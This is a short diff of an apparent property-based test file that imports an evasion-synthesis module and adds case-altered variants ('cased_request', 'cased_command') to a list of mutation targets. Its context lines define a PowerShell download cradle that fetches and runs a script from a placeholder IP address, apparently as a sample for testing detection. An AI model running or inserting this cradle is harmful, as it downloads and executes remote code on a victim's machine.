@@ -16,7 +16,7 @@ from tools.synth import evasion
 
 PLAIN = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zs", "Zl", "Zp", "Cf"]), min_size=1, max_size=40)
 CRADLE = "iex(new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1')"
-NEW = ("request", "command", "page", "file_words", "header", "certificate")
+NEW = ("request", "cased_request", "command", "cased_command", "page", "file_words", "header", "certificate")
 
 
 @given(PLAIN)
